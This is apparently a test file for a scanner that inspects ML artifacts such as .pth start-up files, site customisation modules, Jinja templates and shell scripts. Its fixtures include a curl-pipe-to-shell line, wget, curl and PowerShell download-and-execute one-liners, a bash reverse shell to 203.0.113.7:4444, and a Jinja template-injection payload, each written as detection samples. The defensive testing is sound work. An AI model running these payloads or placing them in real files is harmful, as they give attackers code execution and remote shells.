import { describe, expect, it } from 'vitest';
import { pickle } from '../../src/formats/pickle/builder.js';
import { pthExecLines } from '../../src/engine/handlers/startup.js';
import { scanBytes } from '../helpers/scan-bytes.js';

// Issue 14, point 3: a file is judged as every loader that would open it. Lib/site.py runs the
// `import` lines of every `*.pth` in site-packages and imports sitecustomize/usercustomize; a
// server handed a template file by path renders it whatever its suffix.

const SHELL_LINE = 'import os; os.system("curl -s https://example.invalid/x | sh")';
const rules = (r: { findings: Array<{ ruleId: string }> }): string[] => [...new Set(r.findings.map((f) => f.ruleId))].sort();

describe('.pth start-up files', () => {
  it('reads a list of paths as an inert .pth, clean', async () => {
    const r = await scanBytes(Buffer.from('# extra paths\n/opt/lib\n../vendor\n  import os is not a start-up line\n'), { name: 'extra.pth' });
    expect(r.format).toBe('pth');
    expect(r.verdict).toBe('clean');
    expect(r.findings).toEqual([]);
  });

  it.each([
    ['a plain line', `/opt/lib\n${SHELL_LINE}\n`],
    ['a CRLF file', `/opt/lib\r\n${SHELL_LINE}\r\n`],
    ['a line after a form feed (str.splitlines)', `/opt/lib\f${SHELL_LINE}\n`],
    ['a line after a vertical tab', `/opt/lib\v${SHELL_LINE}`],
    ['a UTF-8 BOM first', `\ufeff${SHELL_LINE}\n`],
    ['a tab after import', SHELL_LINE.replace('import ', 'import\t')],
  ])('finds start-up code that starts a shell in %s', async (_what, text) => {
    const r = await scanBytes(Buffer.from(text), { name: 'evil.pth' });
    expect(r.verdict).toBe('malicious');
    expect(rules(r)).toContain('python/startup-file');
    expect(rules(r)).toContain('python/download-to-shell');
    const startup = r.findings.find((f) => f.ruleId === 'python/startup-file')!;
    expect(startup.severity).toBe('medium');
    expect(Buffer.from(text).toString('utf8', startup.location!.offset!).startsWith('import')).toBe(true);
  });

  it('grades start-up code that does nothing harmful as suspicious: no model needs it', async () => {
    // setuptools' distutils-precedence.pth, as installed in every virtualenv.
    const line =
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
    const r = await scanBytes(Buffer.from(line), { name: 'distutils-precedence.pth' });
    expect(r.format).toBe('pth');
    expect(r.verdict).not.toBe('clean');
    expect(rules(r)).toContain('python/startup-file');
  });

  it('keeps the offsets of the lines it runs and blanks the rest', () => {
    const text = Buffer.from('/a\nimport x\n#import y\nimport\tz\r\n');
    const { code, lines } = pthExecLines(text);
    expect(code.length).toBe(text.length);
    expect(lines.map((l) => l.at)).toEqual([3, 22]);
    expect(code.toString()).toBe('  \nimport x\n         \nimport\tz\n\n');
  });

  it('reads a pickle named .pth as the checkpoint it is, and as start-up lines too', async () => {
    const plain = pickle().dict().stop().bytes();
    const clean = await scanBytes(plain, { name: 'model.pth' });
    expect(clean.verdict).toBe('clean');
    expect(rules(clean)).not.toContain('python/startup-file');
    const hidden = await scanBytes(Buffer.concat([plain, Buffer.from(`\n${SHELL_LINE}\n`)]), { name: 'model.pth' });
    expect(hidden.verdict).toBe('malicious');
    expect(rules(hidden)).toContain('python/startup-file');
  });
});

describe('site customisation modules', () => {
  it('reports sitecustomize.py as start-up code and judges what it runs', async () => {
    const benign = await scanBytes(Buffer.from('import sys\nsys.dont_write_bytecode = True\n'), { name: 'sitecustomize.py' });
    expect(benign.verdict).toBe('suspicious');
    expect(rules(benign)).toEqual(['python/startup-file']);
    const evil = await scanBytes(Buffer.from(`${SHELL_LINE}\n`), { name: 'usercustomize.py' });
    expect(evil.verdict).toBe('malicious');
    expect(rules(evil)).toEqual(['python/download-to-shell', 'python/startup-file']);
  });

  it('leaves other modules alone', async () => {
    const r = await scanBytes(Buffer.from('import sys\nsys.dont_write_bytecode = True\n'), { name: 'customize.py' });
    expect(r.verdict).toBe('clean');
  });
});

describe('templates by markup and by name', () => {
  const SSTI = "{{ lipsum.__globals__['os'].popen('id').read() }}";

  it.each(['prompt.template', 'chat.tmpl', 'prompt.txt', 'template', 'chat.j2'])('judges a Jinja payload in %s', async (name) => {
    const r = await scanBytes(Buffer.from(`You are a helpful assistant.\n${SSTI}\n`), { name });
    expect(r.verdict).toBe('malicious');
    expect(rules(r)).toContain('jinja/template-injection');
  });

  it('judges a chat template file that is also valid JSON', async () => {
    const r = await scanBytes(Buffer.from(JSON.stringify({ note: SSTI })), { name: 'chat_template.jinja' });
    expect(r.verdict).toBe('malicious');
    expect(rules(r)).toContain('jinja/template-injection');
  });

  it.each([
    ['a model card template', 'README.md', '---\n{{ card_data }}\n---\n# {{ model_id | default("Model ID", true) }}\n'],
    ['a Go template for another server', 'prompt.template', '{{ if .System }}<|system|>{{ .System }}{{ end }}{{ .Prompt }}'],
    ['braces that are no Jinja', 'notes.txt', 'use {{ and }} {% to write {%\n'],
  ])('keeps %s clean', async (_what, name, text) => {
    const r = await scanBytes(Buffer.from(text), { name });
    expect(r.verdict).toBe('clean');
    expect(r.findings.filter((f) => f.severity !== 'info')).toEqual([]);
  });
});

describe('shell scripts', () => {
  it.each([
    ['setup.sh', 'set -e\npip install -r requirements.txt\ncurl -fsSL https://example.invalid/i.sh | bash\n', 'python/download-to-shell'],
    ['run', '#!/usr/bin/env bash\n# start the server\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n', 'python/reverse-shell'],
    ['get.sh', 'wget -q https://example.invalid/x \\\n  -O - | sh\n', 'python/download-to-shell'],
    ['install.ps1', 'iwr -useb https://example.invalid/x.ps1 | iex\n', 'python/download-to-shell'],
  ])('judges %s by the commands it runs', async (name, text, rule) => {
    const r = await scanBytes(Buffer.from(text), { name });
    expect(r.format).toBe('shell-script');
    expect(r.verdict).toBe('malicious');
    expect(rules(r)).toContain(rule);
  });

  it.each([
    [
      'download.sh',
      '#!/bin/sh\nset -eu\nhuggingface-cli download org/model --local-dir ./model\ncurl -L -o weights.bin https://example.invalid/w.bin\nsha256sum -c SHA256SUMS\n',
    ],
    ['train.sh', '#!/bin/bash\npython train.py \\\n  --epochs 3 \\\n  --lr 1e-4\n'],
  ])('keeps an ordinary script clean: %s', async (name, text) => {
    const r = await scanBytes(Buffer.from(text), { name });
    expect(r.format).toBe('shell-script');
    expect(r.verdict).toBe('clean');
  });

  it('does not take a Python script with a shebang for a shell script', async () => {
    const r = await scanBytes(Buffer.from('#!/usr/bin/env python3\nimport sys\nprint(sys.argv)\n'), { name: 'run' });
    expect(r.format).toBe('python');
  });
});
